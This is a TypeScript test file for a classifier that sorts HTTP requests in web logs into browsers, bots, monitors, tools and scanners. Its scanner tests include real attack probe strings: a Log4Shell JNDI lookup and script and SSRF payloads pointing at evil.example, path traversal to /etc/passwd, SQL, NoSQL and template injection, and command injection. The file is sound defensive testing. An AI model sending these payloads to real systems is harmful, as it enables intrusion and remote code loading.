import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { ClientClass } from '../profile/entry.ts';
import type { Micros } from '../profile/time.ts';
import { type ClientRequest, createClientClassifier } from './classifier.ts';

const CHROME =
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36';
const START = 1_760_000_000_000_000;
const SECOND = 1e6;

function request(path: string, overrides: Partial<ClientRequest> & { at?: number } = {}): ClientRequest {
  const { at = 0, ...rest } = overrides;
  return {
    time: (START + at * SECOND) as Micros,
    ip: '203.0.113.7',
    method: 'GET',
    url: `https://shop.example${path}`,
    status: 404,
    userAgent: CHROME,
    ...rest,
  };
}

function classesOf(requests: readonly ClientRequest[]): ClientClass[] {
  const clients = createClientClassifier(1);
  return requests.map((each) => clients.classify(each));
}

test.each<[ClientClass, string]>([
  ['browser', CHROME],
  ['bot', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
  ['monitor', 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)'],
  ['monitor', 'kube-probe/1.33'],
  ['tool', 'curl/8.5.0'],
  ['scanner', 'sqlmap/1.8'],
  ['unknown', ''],
  ['unknown', 'Mozilla/5.0'],
])('a client is classified as %s by its user agent "%s"', (expected, userAgent) => {
  const ordinary = request('/environment', { userAgent, status: 200 });
  expect(classesOf([ordinary, ordinary])).toEqual([expected, expected]);
});

test.each([
  '/error/.env',
  '/%2eenv',
  '/.git/config',
  '/api/index.php/v1/config/application?public=true',
  '/..%252f..%252fetc/passwd',
  '/?x=%24%7Bjndi:ldap://evil.example/a%7D',
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/search?q=%3Cscript%20src=//evil.example/x.js%3E',
  '/user/register?element_parents=account/mail/%23value&ajax_form=1',
  '/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example',
  '/hello?name=%7B%7B7*7%7D%7D',
  '/?data=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;i:1;%7D',
  '/products?id=7%20AND%201=1--',
  '/download?file=/etc/passwd',
  '/index.php?cmd=id',
  '/?page=data://text/plain;base64,PD9waHA=',
  '/login?user[$ne]=x',
  '/go?url=https://abc.oast.pro/',
  '/?x=%0d%0aSet-Cookie:a=b',
  '/terraform.tfstate',
])('whatever the site answers, only a scanner asks for %s', (path) => {
  expect(classesOf([request(path), request(path, { status: 200 })])).toEqual(['scanner', 'scanner']);
});

test.each([
  '/blog/how-to-protect-.env-files',
  '/environment',
  '/.well-known/security.txt',
  '/search?q=union+select',
  '/search?fields=name;id',
  '/search?q=alert(1)',
  '/img/%7B%7B%20config.logo%20%7D%7D',
  "/search?q=6'+--+tall",
  '/search?q=%3Cscript%3E+tag',
  '/search?q=how+to+read+/etc/passwd',
  '/user/register?ajax_form=1&element_parents=user_picture',
  '/autodiscover/autodiscover.json?Email=ann%40shop.example&Protocol=ActiveSync',
  '/team/app/.git/info/refs?service=git-upload-pack',
])('%s is an ordinary request', (path) => {
  expect(classesOf([request(path)])).toEqual(['browser']);
});

test('one login page that is missing can be a mistake, several are not', () => {
  const paths = ['/wp-login.php', '/wp-admin/', '/blog/wp-login.php', '/wp/wp-login.php'];
  expect(classesOf(paths.map((path, at) => request(path, { at })))).toEqual([
    'unknown',
    'unknown',
    'scanner',
    'scanner',
  ]);
});

test('logins of WordPress and Joomla are ordinary on sites that have them, also for those that may not use them', () => {
  const clients = createClientClassifier(1);
  for (const path of ['/wp-login.php', '/administrator/index.php']) {
    clients.classify(request(path, { ip: '198.51.100.1', status: 200 }));
    expect(clients.classify(request(path, { status: 403 }))).toBe('browser');
  }
  for (const path of ['/wp-admin/', '/xmlrpc.php', '/wp-json/wp/v2/users/me', '/wp-admin/index.php'])
    expect(clients.classify(request(path, { status: 403 }))).toBe('browser');
});

test('a site that has a page for everything does not hide scanners', () => {
  const withSecrets = ['/.env', '/wp-cron.php', '/phpmyadmin/', '/owa/'];
  const without = ['/wp-cron.php', '/joomla.xml', '/magento_version', '/telescope/requests', '/phpmyadmin/'];
  for (const paths of [withSecrets, [...without, '/actuator/env', '/owa/', '/jolokia/list']])
    expect(classesOf(paths.map((path) => request(path, { status: 200 }))).at(-1)).toBe('scanner');
});

test('a site with several kinds of software is one with many tools', () => {
  const paths = ['/jenkins/script', '/solr/admin/cores', '/phpmyadmin/', '/telescope/requests', '/owa/'];
  expect(classesOf(paths.map((path) => request(path, { status: 200 })))).not.toContain('scanner');
});

test('the error page of Laravel is ordinary on sites that have it', () => {
  const paths = ['/_ignition/health-check', '/_ignition/execute-solution'];
  expect(classesOf(paths.map((path) => request(path, { status: 200 })))).toEqual(['browser', 'browser']);
  expect(classesOf(paths.map((path) => request(path)))).toEqual(['scanner', 'scanner']);
});

test('a network drive looks for names that operating systems use', () => {
  const names = ['.DS_Store', '.hidden', '._notes.txt', '.git/config', '.Trash-1000', 'backup.zip', 'x', 'y'];
  const userAgent = 'WebDAVFS/3.0.0';
  const requests = names.map((name) => request(`/${name}`, { method: 'PROPFIND', userAgent }));
  expect(classesOf(requests)).not.toContain('scanner');
  expect(classesOf([request('/.git/config', { userAgent })])).toEqual(['scanner']);
});

test('one request for the state of a server can be that of a monitoring agent', () => {
  const [ip, userAgent] = ['10.0.0.9', 'Datadog Agent/7.53.0'];
  expect(classesOf([request('/server-status?auto', { ip, userAgent })])).toEqual(['unknown']);
});

test('a backup that is missing in a folder which the site has is ordinary, at the root it is a probe', () => {
  const inFolder = [request('/backups/monday', { status: 200 }), request('/backups/db.sql.gz')];
  expect(classesOf(inFolder)).toEqual(['browser', 'browser']);
  expect(classesOf([request('/db.sql.gz')])).toEqual(['scanner']);
});

test('many missing paths in a short time are a scan, and the requests before are revised', () => {
  const clients = createClientClassifier(1);
  const scan = ['admin', 'test', 'old', 'backup', 'dev', 'beta', 'panel'].map((word, n) =>
    request(`/${word}`, { at: n / 10 }),
  );
  const classes = scan.map((each) => clients.classify(each));
  expect(classes[0]).toBe('browser');
  expect(classes.at(-1)).toBe('scanner');
  expect(clients.scannersFound).toBe(1);
  for (const [n, each] of scan.entries())
    expect(clients.revise(each, classes[n] ?? 'unknown')).toBe('scanner');
  const home = request('/', { at: 2, status: 200 });
  expect(clients.classify(home)).toBe('scanner');
  expect(clients.classify({ ...home, userAgent: `${CHROME} Edg/156.0` })).toBe('browser');
  expect(clients.classify({ ...home, ip: '203.0.113.8' })).toBe('browser');
  expect(clients.classify({ ...home, time: (home.time + 3600e6) as Micros })).toBe('browser');
});

test('missing records, files of pages and the links of crawlers are not a scan', () => {
  const records = Array.from({ length: 50 }, (_, n) => request(`/api/users/${n}`, { at: n / 20 }));
  const files = Array.from({ length: 50 }, (_, n) => request(`/assets/part-${n}x.js`, { at: n / 20 }));
  const links = 'abcdefghijklmnopqrstuvwxyz'
    .split('')
    .map((letter) => request(`/${letter}`, { userAgent: 'Mozilla/5.0 (compatible; bingbot/2.0)' }));
  for (const requests of [records, files, links]) expect(classesOf(requests)).not.toContain('scanner');
});

test('words of word lists are a scan below a folder that the site has too, other missing names are not', () => {
  const answered = request('/api/v1/orders', { ip: '198.51.100.1', status: 200 });
  const ask = (names: string) =>
    names.split(' ').map((name, n) => request(`/api/v1/${name}`, { at: n * 4, userAgent: 'axios/1.7.2' }));
  expect(classesOf([answered, ...ask('admin backup test old dev')]).at(-1)).toBe('scanner');
  expect(classesOf([answered, ...ask('anna bert carla dora emil fritz')])).not.toContain('scanner');
  expect(classesOf(ask('swagger.json openapi.json api-docs swagger-ui redoc'))).not.toContain('scanner');
});

test('old pages of a site that was rewritten are ordinary, many of them from a program are not', () => {
  const paths = ['/shop/list.php', '/shop/item.php', '/news/read.asp', '/guestbook.pl', '/cart/view.php'];
  const ask = (userAgent: string) => paths.map((path, n) => request(path, { at: n * 9, userAgent }));
  expect(classesOf(ask(CHROME))).not.toContain('scanner');
  expect(classesOf(ask('Go-http-client/1.1')).at(-1)).toBe('scanner');
  const onPhp = paths.map((path, n) =>
    request(path.replace(/\w+$/, 'php'), { at: n * 9, userAgent: 'curl/8' }),
  );
  const answered = request('/index.php', { ip: '198.51.100.1', status: 200 });
  expect(classesOf([answered, ...onPhp])).not.toContain('scanner');
});

test('on a WordPress site, several missing programs of plugins and several users are a scan', () => {
  const answered = request('/wp-content/themes/x/style.css', { ip: '198.51.100.1', status: 200 });
  const plugins = ['a', 'b', 'c'].map((name, at) => request(`/wp-content/plugins/${name}/up.php`, { at }));
  expect(classesOf([answered, ...plugins]).slice(1)).toEqual(['unknown', 'unknown', 'scanner']);
  const authors = [1, 2, 3].map((n) => request(`/?author=${n}`, { at: n, status: 301 }));
  expect(classesOf([answered, ...authors]).at(-1)).toBe('scanner');
  expect(
    classesOf([answered, ...[1, 1, 1, 1].map(() => request('/?author=1', { status: 301 }))]),
  ).not.toContain('scanner');
});

test('the form of a login that is missing was never on a page', () => {
  const send = (status: number) => classesOf([request('/wp-login.php', { method: 'POST', status })]);
  expect(send(404)).toEqual(['scanner']);
  expect(send(403)).toEqual(['unknown']);
});

test("an encrypted file of settings can be anyone's", () => {
  expect(classesOf([request('/bucket/.env.production.enc', { status: 200 })])).toEqual(['browser']);
});

test('a Spring app is known by its health', () => {
  const health = request('/actuator/health', { ip: '198.51.100.1', status: 200 });
  expect(classesOf([health, request('/actuator/httptrace', { userAgent: 'Java-http-client/17' })])).toEqual([
    'browser',
    'tool',
  ]);
});

test('an IPv6 network of 64 bits is one client, a private network is not', () => {
  const probes = ['/wp-login.php', '/wp-admin/', '/a/wp-login.php', '/b/wp-login.php'];
  const from = (prefix: string) => probes.map((path, n) => request(path, { ip: `${prefix}${n + 1}` }));
  expect(classesOf(from('2001:db8:1:2::')).at(-1)).toBe('scanner');
  expect(classesOf(from('2001:db8::1:2:3:')).at(-1)).toBe('scanner');
  for (const prefix of ['10.0.0.', '127.0.0.', '192.168.1.', 'fd00::', '203.0.113.'])
    expect(classesOf(from(prefix))).not.toContain('scanner');
  expect(classesOf(probes.map((path) => request(path, { ip: '10.0.0.1' })))).not.toContain('scanner');
});

const anyRequest = fc.record({
  path: fc.oneof(
    fc.webPath(),
    fc.constantFrom('/wp-login.php', '/.env', '/admin', '/', '/a.php', '/xmlrpc.php', '/old/x', '/p/1'),
  ),
  status: fc.constantFrom(200, 302, 401, 403, 404, 500, 499),
  at: fc.integer({ min: 0, max: 400 }),
  userAgent: fc.constantFrom(CHROME, '', 'curl/8', 'bingbot/2.0'),
});

test('the class of a client does not depend on other clients, other than by what sites answer them', () => {
  fc.assert(
    fc.property(
      fc.array(anyRequest, { maxLength: 60 }),
      fc.array(anyRequest, { maxLength: 60 }),
      (mine, others) => {
        const own = mine.map(({ path, ...rest }) => request(path, rest));
        const alone = classesOf(own);
        const clients = createClientClassifier(1);
        // The others get nothing but errors: the sites show nothing about themselves.
        for (const { path, ...rest } of others)
          clients.classify(
            request(path, { ...rest, status: Math.max(400, rest.status), ip: '198.51.100.9' }),
          );
        expect(own.map((each) => clients.classify(each))).toEqual(alone);
      },
    ),
  );
});

test('the order of requests in a batch does not change what is revised, if the site answers none of them', () => {
  const failing = anyRequest.map(({ path, at, ...rest }) =>
    request(path, { ...rest, at: at / 1000, status: Math.max(400, rest.status), userAgent: CHROME }),
  );
  const shuffled = fc
    .array(failing, { maxLength: 30 })
    .chain((list) => fc.tuple(fc.constant(list), fc.shuffledSubarray(list, { minLength: list.length })));
  fc.assert(
    fc.property(shuffled, ([list, other]) => {
      const revised = (requests: readonly ClientRequest[]) => {
        const clients = createClientClassifier(1);
        for (const each of requests) clients.classify(each);
        return list.map((each) => clients.revise(each, 'unknown') === 'scanner');
      };
      expect(revised(other)).toEqual(revised(list));
    }),
  );
});

test('memory is bounded for any number of clients', () => {
  const clients = createClientClassifier(1);
  const add = (from: number, to: number) => {
    for (let n = from; n < to; n++)
      for (const path of ['/.env', `/x${n}/wp-login.php`, '/admin'])
        clients.classify(request(path, { ip: `11.${n >> 16}.${(n >> 8) & 255}.${n & 255}`, at: n / 1000 }));
  };
  add(0, 40_000);
  expect(clients.evidence('11.0.0.1')).toBeNull();
  expect(clients.evidence('11.0.156.63')).toMatchObject({ probes: 2, failed: 3, answered: 0 });
});
